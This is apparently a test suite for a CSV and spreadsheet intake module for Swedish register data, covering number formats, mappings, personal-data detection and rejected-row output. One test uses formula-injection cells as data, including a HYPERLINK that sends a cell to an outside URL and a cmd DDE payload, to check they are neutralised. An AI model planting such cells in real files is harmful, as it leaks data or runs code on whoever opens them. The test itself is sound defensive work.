import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { addDays } from '../../../core/calendar/date.ts';
import type { Answer } from '../../../core/findings.ts';
import { canonicalText } from '../../../core/intake/canonical.ts';
import { REASON_COLUMNS } from '../../../core/intake/columns.ts';
import { ENROLMENTS, readEnrolments } from '../../../core/intake/enrolments.ts';
import type { Mapping } from '../../../core/intake/mapping/shape.ts';
import { OBSERVATIONS, readObservations } from '../../../core/intake/observations.ts';
import { rejectedText } from '../../../core/intake/rejected.ts';
import { type TakenIn, takeIn, wholeOrNothing } from '../../../core/intake/take-in.ts';
import type { Observation } from '../../../core/outcomes/records.ts';
import { findingWords } from '../../../core/words/findings.ts';
import { dateCell, rows, workbook } from './workbooks.ts';

const text = (lines: readonly string[]) => Buffer.from(`${lines.join('\n')}\n`);
const take = (bytes: Uint8Array, mapping?: Mapping, mend = false) =>
  takeIn({ bytes, file: 'o.csv' }, OBSERVATIONS, { mapping, mend });
const codes = (taken: Answer<unknown>) => taken.findings.map(({ code }) => code);
const canonical = (taken: Answer<TakenIn<Observation>>) =>
  taken.ok ? canonicalText(OBSERVATIONS, taken.value.values) : undefined;

const REGISTER: Mapping = {
  source: 'Procapita',
  kind: 'observations',
  headerRow: '2',
  columns: {
    person: { column: 'Löpnummer', digits: '6' },
    observation: { fixed: 'absence' },
    date: { column: 'Datum', dates: 'YYMMDD' },
    value: {
      column: 'Timmar',
      decimal: 'comma',
      thousands: 'space',
      unit: 'hours',
      as: 'days',
      hoursPerDay: '8',
    },
  },
  ignore: ['Enhet'],
};

describe('a column with two decimal signs', () => {
  const rowsOf = (...values: string[]) => [
    'person;observation;date;value',
    ...values.map((value, index) => `p-${index};absence;2026-01-31;${value}`),
  ];
  const MIXED = 'intake.separators-mixed';
  const DOUBTFUL = 'intake.number-ambiguous';

  it.each([
    [['1.234,5', '1.234'], ['intake.number-has-separators', MIXED], 'a thousand, after its like'],
    [['1.234', '1.234,5'], [MIXED, 'intake.number-has-separators'], 'a thousand, before its like'],
    [['1.234', '1,5'], [MIXED, MIXED], 'a thousand, before a comma'],
    [['1,5', '1.234'], [MIXED], 'a thousand, after a comma'],
    [['1.234.567', '1.234'], ['intake.number-has-separators', MIXED], 'millions'],
    [['1.234 kr', '2,5'], [MIXED, MIXED], 'a thousand with its currency'],
    [['1.5', '1,25'], [MIXED], 'two ways, of which the later is in doubt'],
    [['1.234', '5.5'], [], 'points alone'],
    [['1.234', '0.250'], [], 'points alone, and a quarter'],
    [['1.234', '2.500'], [DOUBTFUL, DOUBTFUL], 'points that may all be between thousands'],
    [['1.234', '2500'], [DOUBTFUL], 'a point that may be between thousands'],
  ])('never reads %j silently a thousand times too small: %j (%s)', async (values, expected) => {
    const taken = await take(text(rowsOf(...values)), undefined, true);
    expect(codes(taken)).toEqual(expected);
  });
});

describe('a column between tabs', () => {
  it.each([
    [['312,500', '287,250'], 2],
    [['312.500', '287.250'], 2],
    [['312,500', '0,250'], 0],
    [['312,500', '1312,5'], 0],
  ])('says by its numbers what its sign is, or is refused: %j', async (values, doubtful) => {
    const rows = values.map((value, at) => `p-${at}\tabsence\t2026-01-31\t${value}`);
    const taken = await take(text(['person\tobservation\tdate\tvalue', ...rows]));
    expect(codes(taken)).toEqual(Array(doubtful).fill('intake.number-ambiguous'));
  });
});

describe('a register’s file under its mapping', () => {
  it('becomes the rows that the terms read', async () => {
    const taken = await take(
      text([
        'Utdrag 2026-02-01;;;',
        'Enhet;LÖPNUMMER;Datum;Timmar',
        'A;417;260131;12,0',
        'B;000418;260201;1 600',
      ]),
      REGISTER,
    );
    expect(canonical(taken)).toBe(
      'person,observation,date,value\n000417,absence,2026-01-31,1.5\n000418,absence,2026-02-01,200\n',
    );
  });

  it('says which column is gone, and what it may be called now', async () => {
    const taken = await take(text(['x', 'Löpnumer;Datum;Timmar;Nytt']), REGISTER);
    expect(
      taken.findings.map(({ code, facts }) => [code, facts['name'], facts['nearest']]),
    ).toEqual([
      ['intake.column-not-in-file', 'Löpnummer', 'löpnumer'],
      ['intake.column-unmapped', 'Löpnumer', undefined],
      ['intake.column-unmapped', 'Nytt', undefined],
    ]);
  });

  it('of several observations per row gives each its row, and an empty cell gives none', async () => {
    const { value: _, observation: __, ...columns } = REGISTER.columns;
    const wide: Mapping = {
      ...REGISTER,
      columns: { ...columns, date: { fixed: '2026-06-15' } },
      values: [
        { observation: 'merit_points', column: 'Merit' },
        { observation: 'passed', column: 'Godkänd', codes: { JA: '1', NEJ: '0', '-': '' } },
      ],
    };
    const taken = await take(
      text(['', 'Löpnummer;Merit;Godkänd', '1;210,5;JA', '2;;NEJ', '3;180;-', '4;190;Ja']),
      wide,
    );
    expect(codes(taken)).toEqual(['intake.code-other-case']);
    expect(
      taken.ok &&
        taken.value.values.map(({ person, observation, value }) => [person, observation, value]),
    ).toEqual([
      ['000001', 'merit_points', '210.5'],
      ['000001', 'passed', '1'],
      ['000002', 'passed', '0'],
      ['000003', 'merit_points', '180'],
    ]);
  });

  it('says what an empty value means, and where it says nothing, the row is named', async () => {
    const file = text(['x', 'Löpnummer;Datum;Timmar', '1;260131;', '2;260201;16']);
    expect(codes(await take(file, REGISTER))).toEqual(['intake.value-empty']);
    const { value, ...columns } = REGISTER.columns;
    const none = { ...REGISTER, columns: { ...columns, value: { ...value, ifEmpty: '0' } } };
    const taken = await take(file, none);
    expect(codes(taken)).toEqual([]);
    expect(taken.ok && taken.value.values.map((each) => each.value)).toEqual(['0', '2']);
  });

  it('of another kind than what is delivered is not read at all', async () => {
    const taken = await takeIn({ bytes: text(['x']), file: 'e.csv' }, ENROLMENTS, {
      mapping: REGISTER,
    });
    expect(codes(taken)).toEqual(['intake.mapping-of-other-kind']);
  });

  it('may leave out names before anything leaves the house, and not at the door', async () => {
    const file = text(['', 'Löpnummer;Datum;Timmar;Efternamn', '1;260131;8;Andersson']);
    const mapping = { ...REGISTER, ignore: ['Efternamn'] };
    expect((await take(file, mapping)).ok).toBe(true);
    const atDoor = await takeIn({ bytes: file, file: 'o.csv' }, OBSERVATIONS, {
      mapping,
      atDoor: true,
    });
    expect(atDoor.findings).toMatchObject([
      { code: 'intake.column-personal', facts: { kind: 'name' } },
    ]);
  });

  it('leaves out no column of given names at the door, and one name among codes', async () => {
    const mapping = { ...REGISTER, ignore: ['Kontakt'] };
    const found = async (...contacts: string[]) => {
      const lines = contacts.map((contact, at) => `${at + 1};260131;8;${contact}`);
      const bytes = text(['', 'Löpnummer;Datum;Timmar;Kontakt', ...lines]);
      const how = { mapping, atDoor: true };
      return codes(await takeIn({ bytes, file: 'o.csv' }, OBSERVATIONS, how));
    };
    expect(await found('Eva', 'Nils', 'Karin', '')).toEqual(['intake.column-personal']);
    expect(await found('Norr', 'Syd', 'Maria', 'Öst')).toEqual([]);
  });

  it.each([
    ['in two columns', 'Född;Nr', ['640823;3234', '701063;2391'], 'intake.personnummer-in-parts'],
    ['in pieces', 'Ref;Not', ['640823,3234;x', 'a;y'], 'intake.personnummer'],
  ])(
    'leaves out no identity number that is kept %s, once it has left the house',
    async (_, header, cells, code) => {
      const lines = cells.map((cell, at) => `${at + 1};260131;8;${cell}`);
      const file = text(['', `Löpnummer;Datum;Timmar;${header}`, ...lines]);
      const mapping = { ...REGISTER, ignore: header.split(';') };
      expect((await take(file, mapping)).ok).toBe(true);
      const how = { mapping, atDoor: true };
      const atDoor = await takeIn({ bytes: file, file: 'o.csv' }, OBSERVATIONS, how);
      expect(atDoor).toMatchObject({ ok: false, findings: [{ code, at: { row: 3 } }] });
      expect(JSON.stringify(atDoor.findings)).not.toMatch(/640823|3234/);
      const harmless = text(['', `Löpnummer;Datum;Timmar;${header}`, '1;260131;8;640823;1480']);
      expect((await takeIn({ bytes: harmless, file: 'o.csv' }, OBSERVATIONS, how)).ok).toBe(true);
    },
  );

  it('puts comparison persons in their arm by a fixed value', async () => {
    const mapping: Mapping = {
      source: 'SCB',
      kind: 'enrolments',
      columns: {
        person: { column: 'id' },
        enrolled_on: { column: 'from' },
        arm: { fixed: 'comparison' },
      },
      attributes: { region: { column: 'län', codes: { '05': 'east' } } },
    };
    const taken = await takeIn(
      { bytes: text(['id;from;län', 'c-1;2016-09-01;05']), file: 'e.csv' },
      ENROLMENTS,
      { mapping },
    );
    expect(taken.ok && canonicalText(ENROLMENTS, taken.value.values)).toBe(
      'person,enrolled_on,arm,attribute_region\nc-1,2016-09-01,comparison,east\n',
    );
  });
});

describe('columns that tell who somebody is', () => {
  it.each([
    ['Efternamn', 'x', 'name'],
    ['Gatuadress', 'x', 'address'],
    ['Mobil', 'x', 'phone'],
    ['E-post', 'x', 'email'],
    ['Anteckning', 'x', 'free-text'],
    ['Personnr', 'x', 'identity'],
    ['kolumn5', 'Anna Andersson', 'name'],
    ['kolumn5', 'Storgatan 12', 'address'],
    ['kolumn5', '070-123 45 67', 'phone'],
    ['kolumn5', 'anna@example.org', 'email'],
    ['kolumn5', 'hon ringde i går och sade att hon inte kommer', 'free-text'],
  ])('are told apart: %s with %s holds %s', async (header, cell, kind) => {
    const taken = await take(
      text([`person,observation,date,value,${header}`, `a,event,2019-01-01,1,${cell}`]),
    );
    expect(taken.findings).toMatchObject([{ code: 'intake.column-personal', facts: { kind } }]);
    expect(JSON.stringify(taken.findings)).not.toContain(cell === 'x' ? '"x"' : cell);
  });

  it('are also told in a reason or an attribute that should be a code', () => {
    const header = 'person,enrolled_on,left_reason,attribute_school\n';
    const read = readEnrolments(
      `${header}p-1,2017-01-01,Anna Andersson,anna@example.org\n`,
      'e.csv',
    );
    expect(read.findings.map(({ code, facts }) => [code, facts['kind']])).toEqual([
      ['intake.cell-personal', 'name'],
      ['intake.cell-personal', 'email'],
    ]);
  });
});

describe('many findings', () => {
  it('are given in full to the first thousand, then counted, and every kind is shown once', async () => {
    const bad = Array.from({ length: 1500 }, (_, index) => `p-${index},event,2019-02-30,1`);
    const taken = await take(
      text(['person,observation,date,value', ...bad, 'p-x,event,2019-01-01,many']),
    );
    const shown = taken.findings;
    expect(shown.slice(0, 1000).every(({ code }) => code === 'intake.date-malformed')).toBe(true);
    expect(shown.slice(1000)).toMatchObject([
      { code: 'intake.number-malformed', at: { row: 1502 } },
      {
        code: 'intake.more-of-kind',
        severity: 'error',
        facts: { kind: 'intake.date-malformed', count: 500, first: 2 },
      },
    ]);
    expect(taken.ok && taken.value.kinds.map(({ count }) => count)).toEqual([1500, 1]);
  });
});

describe('a cell with a line break', () => {
  it('is found: an open quotation mark further up swallows the rows between', async () => {
    const taken = await take(
      text([
        'person,observation,date,value',
        'a,event,2019-01-01,"1',
        'b,event,2019-01-02,1"',
        'c,event,2019-01-03,1',
      ]),
    );
    expect(codes(taken)).toEqual(['intake.cell-line-break']);
  });
});

const PERSON = fc.stringMatching(/^[bcdfgh]{3,8}$/);
const ROW = fc.record({
  person: PERSON,
  observation: fc.constantFrom('absence', 'merit_points'),
  date: fc.integer({ min: 0, max: 12_000 }).map((days) => addDays('1995-01-01', days)),
  value: fc
    .tuple(fc.integer({ min: 0, max: 9_999_999 }), fc.integer({ min: 0, max: 99 }))
    .map(([whole, cents]) =>
      cents === 0 ? String(whole) : `${whole}.${String(cents).padStart(2, '0').replace(/0$/, '')}`,
    ),
});
const ROWS = fc.uniqueArray(ROW, {
  minLength: 1,
  maxLength: 20,
  selector: (row) => JSON.stringify(row),
});
type Row = { person: string; observation: string; date: string; value: string };

const SWEDISH: Mapping = {
  source: 'Källa',
  kind: 'observations',
  columns: {
    person: { column: 'Kod' },
    observation: { column: 'Mått', codes: { Frånvaro: 'absence', Merit: 'merit_points' } },
    date: { column: 'Dag', dates: 'D/M/YYYY' },
    value: { column: 'Värde', decimal: 'comma', thousands: 'space' },
  },
};

function swedishLine({ person, observation, date, value }: Row, delimiter: string): string {
  const [year, month, day] = date.split('-');
  const [whole = '', cents] = value.split('.');
  const grouped = whole.replace(/\B(?=(?:\d{3})+$)/g, '\u00a0');
  const code = observation === 'absence' ? 'Frånvaro' : 'Merit';
  const cells = [
    person,
    code,
    `${Number(day)}/${Number(month)}/${year}`,
    cents === undefined ? grouped : `${grouped},${cents}`,
  ];
  return cells.join(delimiter);
}

const ENCODERS = {
  utf8: (value: string) => Buffer.from(value),
  marked: (value: string) => Buffer.from(`\uFEFF${value}`),
  latin1: (value: string) => Buffer.from(value, 'latin1'),
  utf16: (value: string) => Buffer.from(`\uFEFF${value}`, 'utf16le'),
};

const DAY = fc.integer({ min: 0, max: 400 }).map((days) => addDays('2016-01-01', days));
const CODE = fc.constantFrom('moved', 'a, b', 'said "no"', 'ö;å', 'x');
const ENROLMENT = fc.record(
  {
    person: PERSON,
    enrolledOn: DAY,
    arm: fc.constantFrom('treatment', 'comparison'),
    cohort: fc.constantFrom('first', 'second'),
    leftOn: DAY.map((day) => addDays(day, 500)),
    leftReason: CODE,
    attributes: fc.dictionary(fc.constantFrom('region', 'school'), CODE, { minKeys: 1 }),
  },
  { requiredKeys: ['person', 'enrolledOn', 'arm'] },
);

describe('what is kept of a delivery', () => {
  it('of enrolments reads again as the same, whatever is in them', () => {
    const all = fc.uniqueArray(ENROLMENT, { minLength: 1, selector: ({ person }) => person });
    fc.assert(
      fc.property(all, (enrolments) => {
        const read = readEnrolments(canonicalText(ENROLMENTS, enrolments), 'kept');
        expect(read.findings).toEqual([]);
        expect(read.ok && read.value.map(({ at: _at, ...rest }) => rest)).toEqual(enrolments);
      }),
    );
  });

  it('is the same whatever form the source writes it in', async () => {
    const encoder = fc.constantFrom(...Object.values(ENCODERS));
    await fc.assert(
      fc.asyncProperty(
        ROWS,
        encoder,
        fc.constantFrom(';', '\t'),
        fc.constantFrom('\n', '\r\n'),
        async (all, encode, delimiter, end) => {
          const expected = canonicalText(OBSERVATIONS, all);
          const read = readObservations(expected, 'kept');
          expect(read.ok && canonicalText(OBSERVATIONS, read.value)).toBe(expected);

          const header = ['Kod', 'Mått', 'Dag', 'Värde'].join(delimiter);
          const lines = [header, ...all.map((row) => swedishLine(row, delimiter))];
          expect(canonical(await take(encode(lines.join(end) + end), SWEDISH))).toBe(expected);

          const cells = all.map(({ person, observation, date, value }) => {
            const serial = (Date.parse(date) - Date.parse('1899-12-30')) / 86_400_000;
            return [person, observation, dateCell(serial), Number(value)];
          });
          const sheet = rows(['person', 'observation', 'date', 'value'], ...cells);
          expect(canonical(await take(workbook({ sheets: { Blad1: sheet } })))).toBe(expected);
        },
      ),
      { numRuns: 60 },
    );
  });

  it.each([
    ['=HYPERLINK("https://example.org/?"&A2;"klicka")', 'a link that sends a cell away'],
    ['@SUM(A1)', 'a function of old'],
    ["+cmd|' /C calc'!A0", 'a program'],
    ['-1+1', 'a sum'],
  ])('is rejected so that a spreadsheet runs nothing: %s, %s', async (cell) => {
    const written = `"${cell.replaceAll('"', '""')}"`;
    const lines = ['Kod;Mått;Dag;Värde', `${written};absence;1/2/2020;-12,5`];
    const taken = await take(text(lines), SWEDISH);
    const rejected = taken.ok
      ? rejectedText(taken.value.table, taken.value.rejected, {
          column: REASON_COLUMNS.sv,
          why: () => '=1',
        })
      : '';
    expect(rejected).toContain(`'${cell}`.replaceAll('"', '""'));
    expect(rejected).not.toMatch(/(?:^|[;"])(?:[=@+]|-(?!12,5))/m);
    const again = await take(Buffer.from(rejected), SWEDISH);
    expect(again.ok && [...again.value.rejected][0]?.findings).toEqual(
      taken.ok && [...taken.value.rejected][0]?.findings,
    );
  });

  it('comes in with the dash that it was written with, though the rejected rows guard it', async () => {
    const lines = ['person;enrolled_on;attribute_a', 'p-1;30/2/2020;=a', 'p-2;2020-01-01;=b'];
    const enrol = (bytes: Uint8Array) => takeIn({ bytes, file: 'e.csv' }, ENROLMENTS);
    const taken = await enrol(text(lines));
    const rejected = taken.ok
      ? rejectedText(taken.value.table, taken.value.rejected, {
          column: 'utfall_why',
          why: () => '',
        })
      : '';
    const again = await enrol(Buffer.from(rejected.replace('30/2/2020', '2020-02-28')));
    expect(again.ok && again.value.values[0]?.attributes).toEqual({ a: '=a' });
  });

  it('is every row or a rejected one; and what was rejected, mended, comes in under the same mapping', async () => {
    const why = (finding: Parameters<typeof findingWords>[0]) => findingWords(finding, 'sv').what;
    await fc.assert(
      fc.asyncProperty(ROWS, fc.array(fc.nat({ max: 19 })), async (all, spoilt) => {
        const lines = all.map((row, index) => {
          const line = swedishLine(row, ';');
          return spoilt.includes(index) ? line.replace(/\d+\/\d+\/\d{4}/, '30/2/2020') : line;
        });
        const taken = await take(text(['Kod;Mått;Dag;Värde', ...lines]), SWEDISH);
        expect(taken.ok).toBe(true);
        if (!taken.ok) return;
        const { accepted, rejected, table, values } = taken.value;
        expect(accepted + rejected.length).toBe(all.length);
        expect(values).toHaveLength(accepted);
        expect(wholeOrNothing(taken).ok).toBe(rejected.length === 0);
        if (rejected.length === 0) return;

        const file = rejectedText(table, rejected, { column: REASON_COLUMNS.sv, why });
        const dates = all.filter((_, index) => spoilt.includes(index));
        let next = 0;
        const mended = file.replace(/30\/2\/2020/g, () => {
          const row = dates[next] as Row;
          next += 1;
          return swedishLine(row, ';').split(';')[2] ?? '';
        });
        const again = await take(Buffer.from(mended), SWEDISH);
        expect(codes(again)).toEqual([]);
        expect(again.ok && again.value.values.length + accepted).toBe(all.length);
        // Not mended, it is rejected again, with one column of reasons and not two.
        const untouched = await take(Buffer.from(file), SWEDISH);
        expect(untouched.ok && untouched.value.rejected).toHaveLength(rejected.length);
        const twice = untouched.ok
          ? rejectedText(untouched.value.table, untouched.value.rejected, {
              column: REASON_COLUMNS.sv,
              why,
            })
          : '';
        expect(twice).toBe(file);
      }),
      { numRuns: 60 },
    );
  });

  it('never has a personal identity number in what is said of it, wherever it stood and however it was written', async () => {
    const written = fc.constantFrom(
      '640823-3234',
      '6408233234',
      '19640823-3234',
      '196408233234',
      '640823+3234',
      '640823 3234',
      '701063-2391',
    );
    const place = fc.nat({ max: 4 });
    const noise = fc.constantFrom('', 'se ', 'pnr:', '30/2/2020 ');
    await fc.assert(
      fc.asyncProperty(
        written,
        place,
        noise,
        fc.boolean(),
        async (number, index, before, inHeader) => {
          const cells = ['p-1', 'Merit', '1/2/2020', '12', 'x'].map((cell, at) =>
            at === index ? before + number : cell,
          );
          const header = ['Kod', 'Mått', 'Dag', 'Värde', 'Annat'].map((cell, at) =>
            inHeader && at === index ? number : cell,
          );
          const taken = await take(text([header.join(';'), cells.join(';')]), {
            ...SWEDISH,
            ignore: ['Annat'],
          });
          expect(taken.ok).toBe(false);
          expect(codes(taken)).toContain('intake.personnummer');
          const said =
            JSON.stringify(taken) +
            taken.findings.map((finding) => JSON.stringify(findingWords(finding, 'sv'))).join('');
          for (const part of ['640823', '3234', '701063', '2391']) expect(said).not.toContain(part);
        },
      ),
    );
  });
});

describe('two rows of one person that contradict each other', () => {
  const bytes = (text: string) => new TextEncoder().encode(text);
  const header = 'person,enrolled_on,arm';

  it('are both put aside, because either may be right', async () => {
    const rows = ['p-1,2019-01-01,treatment', 'p-2,2019-01-01,', 'p-1,2019-01-01,comparison', ''];
    const file = { bytes: bytes([header, ...rows].join('\n')), file: 'e.csv' };
    const taken = await takeIn(file, ENROLMENTS);
    if (!taken.ok) throw new Error('refused');
    expect(taken.value.values.map(({ person }) => person)).toEqual(['p-2']);
    const rejected = [...taken.value.rejected].map(({ source, findings }) => [
      source.row,
      findings.map(({ facts }) => facts['first']),
    ]);
    expect(rejected).toEqual([
      [2, [4]],
      [4, [2]],
    ]);
  });

  it('are one row and its repetition where they say the same', async () => {
    const rows = ['p-1,2019-01-01,treatment', 'p-1,2019-01-01,', ''];
    const taken = await takeIn(
      { bytes: bytes([header, ...rows].join('\n')), file: 'e.csv' },
      ENROLMENTS,
    );
    expect(taken.ok && [...taken.value.rejected].map(({ source }) => source.row)).toEqual([3]);
  });
});
